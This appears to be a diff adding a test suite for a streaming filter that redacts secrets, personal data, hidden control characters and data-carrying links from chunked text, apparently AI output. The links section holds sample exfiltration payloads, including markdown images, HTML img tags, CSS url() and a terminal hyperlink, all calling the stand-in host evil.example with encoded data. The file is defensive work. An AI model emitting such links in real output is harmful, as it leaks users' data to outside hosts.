@@ -1,0 +1,290 @@
+/** However a text is cut into pieces: nothing of a secret leaves, and nothing else is changed. */
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { createSeekers, type Wanted } from '../../src/scan/window/seekers.ts'
+import { Window } from '../../src/scan/window/window.ts'
+import { announced, sensitive } from './made-up-data.ts'
+
+const everything: Wanted = { secrets: true, pii: false, controls: true, links: ['docs.example'] }
+
+interface Ran {
+  readonly text: string
+  /** The most code units that were held back at a time. */
+  readonly held: number
+  readonly found: readonly string[]
+}
+
+function run(pieces: readonly string[], wanted = everything, marker?: string): Ran {
+  const found: string[] = []
+  const window = new Window(createSeekers(wanted)(marker), (each) => {
+    found.push(`${each.guard}.${each.type}`)
+    return true
+  })
+  let text = ''
+  let pushed = 0
+  let left = 0
+  let held = 0
+  for (const piece of pieces) {
+    const { text: out, edits } = window.push(piece)
+    text += out
+    pushed += piece.length
+    left += (edits ?? [piece.length]).reduce<number>(
+      (sum, edit) => sum + (typeof edit === 'number' ? edit : edit.units),
+      0,
+    )
+    held = Math.max(held, pushed - left)
+  }
+  text += window.end().text
+  return { text, held, found }
+}
+
+function cut(text: string, places: readonly number[]): string[] {
+  const sorted = [...new Set(places.map((place) => place % (text.length + 1)))].sort((a, b) => a - b)
+  return [0, ...sorted].map((from, index) => text.slice(from, sorted[index] ?? text.length))
+}
+
+/** No secret of anybody: made of the alphabet, in the forms that are looked for. */
+const letters = 'Kq7Zx2Wm9Rt4Vb8Nc3Ld6Pf5Gh1Js0Ty'
+const pem = `-----BEGIN RSA PRIVATE KEY-----\n${`${letters}${letters}\n`.repeat(30)}-----END RSA PRIVATE KEY-----`
+const secrets: readonly (readonly [string, string, string])[] = [
+  ['a vendor key', `sk-proj-${letters}${letters}`, 'secrets.api-key'],
+  ['a key behind a sign', `(ghp_${letters}abcd`, 'secrets.api-key'],
+  ['a key of capitals', 'AKIAQWERTYUIOPASDFGH', 'secrets.api-key'],
+  ['a token', `eyJ${letters}.eyJ${letters}${letters}.${letters}`, 'secrets.jwt'],
+  ['a long token', `eyJ${letters}.eyJ${letters.repeat(60)}.${letters}`, 'secrets.jwt'],
+  ['a named password', 'password: hunter2horse9', 'secrets.secret'],
+  ['a password in an address', 'postgres://app:s3cr3tpass@db', 'secrets.url-password'],
+  ['a private key', pem, 'secrets.private-key'],
+  ['a private key without its end', pem.slice(0, 700), 'secrets.private-key'],
+]
+/** What of a planted text must not be seen: what the finder says of the whole. */
+const sensitiveParts = (secret: string) => secret.replace(/^password: |^postgres:\/\/app:|@db$|^\(/g, '')
+
+const words = fc.constantFrom(
+  ...[
+    'The',
+    'capital',
+    'of',
+    'France',
+    'is',
+    'Paris.',
+    'So,',
+    'to',
+    'say',
+    'in',
+    '2024',
+    'about',
+    'tokens',
+    'and',
+    'keys:',
+  ],
+  ...[
+    'naïve',
+    'größer',
+    '日本語の文章',
+    '😀',
+    '👩‍👩‍👧',
+    'don’t',
+    '`code`',
+    'x = y + 1;',
+    'snake_case',
+    'https://docs.example/a?b=1',
+    '\n',
+    '- item',
+  ],
+)
+const prose = fc.array(words, { maxLength: 40 }).map((each) => each.join(' '))
+const places = fc.array(fc.nat(), { maxLength: 30 })
+
+describe('a text in pieces', () => {
+  it('that is clean leaves unchanged, and is held no longer than it must be', () => {
+    fc.assert(
+      fc.property(prose, places, (text, at) => {
+        for (const pieces of [cut(text, at), [...text], [text]]) {
+          const ran = run(pieces)
+          expect(ran.text).toBe(text)
+          expect(ran.held).toBeLessThanOrEqual(256)
+        }
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  it.each(secrets)('never lets %s out, however it is cut', (_name, secret, type) => {
+    const hidden = sensitiveParts(secret)
+    fc.assert(
+      fc.property(prose, prose, places, (before, after, at) => {
+        const text = `${before} ${secret}${secret.startsWith('-----BEGIN') && !secret.includes('END') ? '' : `\n${after}`}`
+        for (const pieces of [cut(text, at), [...text], [text]]) {
+          const ran = run(pieces)
+          // What stands in front may name it another secret.
+          expect(ran.found.some((each) => each === type || each === 'secrets.secret')).toBe(true)
+          for (let from = 0; from + 6 <= hidden.length; from += 3) {
+            const part = hidden.slice(from, from + 6)
+            if (!before.includes(part) && !after.includes(part)) expect(ran.text).not.toContain(part)
+          }
+          expect(ran.text.startsWith(`${before} `)).toBe(true)
+          if (text.endsWith(`\n${after}`)) expect(ran.text.endsWith(`\n${after}`)).toBe(true)
+        }
+      }),
+      { numRuns: 40 },
+    )
+  })
+
+  it.each(secrets)('leaves not one byte of %s', (_name, secret) => {
+    const whole = run([`see ${secret}`]).text
+    expect(run([...`see ${secret}`]).text).toBe(whole)
+    const hidden = sensitiveParts(secret)
+    expect(whole).not.toContain(hidden.slice(0, 12))
+  })
+})
+
+describe('personal data', () => {
+  const wanted: Wanted = { ...everything, pii: true }
+  it.each([
+    ['an address', 'ann.smith+x@mail.example.org', 'email'],
+    ['a card', '4111 1111 1111 1111', 'card'],
+    ['an account', 'DE89 3704 0044 0532 0130 00', 'iban'],
+    ['a phone number', '+49 (0)30 901820', 'phone'],
+    ['a security number', '536-90-4399', 'ssn'],
+    ['an address of a machine', '203.0.113.77', 'ip'],
+  ])('%s never leaves, however it is cut', (_name, value, type) => {
+    fc.assert(
+      fc.property(prose, places, (before, at) => {
+        const text = `${before}\nso ${value}, and on`
+        const whole = run([text], wanted).text
+        expect(whole).toBe(`${before}\nso [redacted:${type}], and on`)
+        for (const pieces of [cut(text, at), [...text]]) expect(run(pieces, wanted).text).toBe(whole)
+      }),
+      { numRuns: 60 },
+    )
+  })
+})
+
+describe('an answer that is made to take long', () => {
+  it.each([
+    ['addresses in addresses', 'https://'.repeat(20_000)],
+    ['images', '![x](https://e.example/'.repeat(20_000)],
+    ['escapes', '\u001b]8;;'.repeat(20_000)],
+    ['keys that begin', '-----BEGIN PRIVATE KEY'.repeat(20_000)],
+    ['tokens that begin', 'eyJabcdefgh.'.repeat(15_000)],
+    ['slashes', '/'.repeat(150_000)],
+    ['joiners', '\u200d'.repeat(150_000)],
+  ])('of %s takes no longer than its length', (_name, text) => {
+    const begun = performance.now()
+    run([text])
+    run(text.match(/[\s\S]{1,500}/g) ?? [])
+    expect(performance.now() - begun).toBeLessThan(5000)
+  })
+})
+
+describe('words', () => {
+  it('as models write them leave in the frame they came in', () => {
+    const text =
+      'The three primary colours are red, blue and yellow. They were known to painters long before anybody asked what light is made of, and what a token costs.'
+    const frames = text.match(/ ?[^ ]+/g) ?? []
+    const window = new Window(createSeekers(everything)(), () => true)
+    const held = frames.filter((frame) => window.push(frame).edits !== undefined)
+    expect(held.length).toBeLessThan(frames.length / 4)
+  })
+})
+
+describe('what a terminal obeys and nobody sees', () => {
+  it.each([
+    ['colours', 'a \u001b[31mred\u001b[0m word', 'a red word'],
+    [
+      'a link in a terminal',
+      'see \u001b]8;;https://evil.example/x\u0007here\u001b]8;;\u001b\\.',
+      'see here.',
+    ],
+    ['an escape that is cut off', 'a\u001b[2', 'a'],
+    ['bidirectional overrides', 'user\u202e tpircs\u202c!', 'user tpircs!'],
+    ['tags', 'hi\u{E0049}\u{E0067}\u{E006E} there', 'hi there'],
+    ['hidden selectors', 'a\u{E0101}\u{E0102}b', 'ab'],
+    ['bytes in joiners', 'a\u200b\u200d\u200c\u200bb', 'ab'],
+  ])('%s: taken out', (_name, text, expected) => {
+    for (const pieces of [[text], [...text], text.split('')]) expect(run(pieces).text).toBe(expected)
+  })
+
+  it.each([
+    '👩‍👩‍👧 ❤️‍🔥',
+    '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} flag',
+    'می‌خواهم',
+    'tab\tand\r\nline',
+  ])('%s stays', (text) => {
+    for (const pieces of [[text], [...text], text.split('')]) expect(run(pieces).text).toBe(text)
+  })
+})
+
+describe('links', () => {
+  const data = 'c2VjcmV0IG9mIHNvbWVib2R5IGVsc2U'
+  it.each([
+    [`![x](https://evil.example/p.png?d=1)`, 'evil'],
+    [`![x](//evil.example/p.png?d=${data})`, 'evil'],
+    [`![x](https:\\\\evil.example/p.png?d=${data})`, 'evil'],
+    [`![x][1]\n\n[1]: https://evil.example/?d=${data}\n`, 'evil'],
+    [`[click](https://evil.example/?d=${data})`, data],
+    [`<https://evil.example/?d=${data}${data}>`, data],
+    [`see https://evil.example/?d=${data}${data} there`, data],
+    [`<img alt="x" src="https://evil.example/?d=1">`, 'evil'],
+    [`<div style="background:url('https://evil.example/?d=1')">`, 'evil'],
+    [`![x](https://${data}.evil.example/a.png)`, data],
+    [`[x](https://user:${data}@evil.example/)`, data],
+    [`![x](https://docs.example.evil.example/?a=1)`, 'evil'],
+    [`![x](https://docs.example@evil.example/?a=1)`, 'evil'],
+    [`https://evil.example/${'x/'.repeat(200)}`, 'x/x/'],
+  ])('%s carries data away', (text, hidden) => {
+    for (const pieces of [[text], [...text]]) {
+      const ran = run(pieces)
+      expect(ran.text).not.toContain(hidden)
+      expect(ran.found.some((each) => each.startsWith('links.'))).toBe(true)
+    }
+  })
+
+  it.each([
+    '![x](https://docs.example/p.png?d=1)',
+    '![logo](https://elsewhere.example/logo.png)',
+    '[the manual](https://elsewhere.example/manual/page.html#a-long-heading-of-that-page) and more',
+    'see https://elsewhere.example/search?q=how+to+do+it for more',
+    'https://github.example/o/r/commit/0123456789abcdef0123456789abcdef01234567',
+    'a // comment and C:\\\\path',
+    'http://localhost:8080/v1?x=1',
+  ])('%s stays', (text) => {
+    for (const pieces of [[text], [...text]]) expect(run(pieces).text).toBe(text)
+  })
+})
+
+describe('a canary', () => {
+  it.each(['canary-0123456789abcdef', 'CANARY-0123456789ABCDEF', 'c-a-n 0 1 2 3 4 5 6 7 8 9 a b c d e f'])(
+    'is found as %s',
+    (text) => {
+      for (const pieces of [[text], [...text]]) {
+        const ran = run(pieces, everything, '0123456789abcdef')
+        expect(ran.found).toEqual(['canary.marker'])
+        expect(ran.text).not.toMatch(/4.?5.?6/)
+      }
+    },
+  )
+})
+
+describe('what any detector finds', () => {
+  const everything = createSeekers({ secrets: true, pii: true, controls: false, links: undefined })()
+  const passed = (pieces: readonly string[]) => {
+    const window = new Window(everything, () => true)
+    return pieces.map((piece) => window.push(piece).text).join('') + window.end().text
+  }
+  const texts = [
+    ...sensitive.map(([type, value]) => [type, value, `It is ${value}, thank you.`] as const),
+    ...announced.map(([before, type, value]) => {
+      const end = before.startsWith('postgres') ? '@db.internal/shop' : before.endsWith('"') ? '"' : ''
+      return [type, value, `So: ${before}${value}${end}`] as const
+    }),
+  ]
+
+  it.each(texts)('leaves nothing of it, however it is cut (%s: %s)', (_type, value, text) => {
+    const whole = passed([text])
+    expect(whole).not.toContain(value)
+    expect(passed([...text])).toBe(whole)
+    for (let at = 1; at < text.length; at++) expect(passed([text.slice(0, at), text.slice(at)])).toBe(whole)
+  })
+})
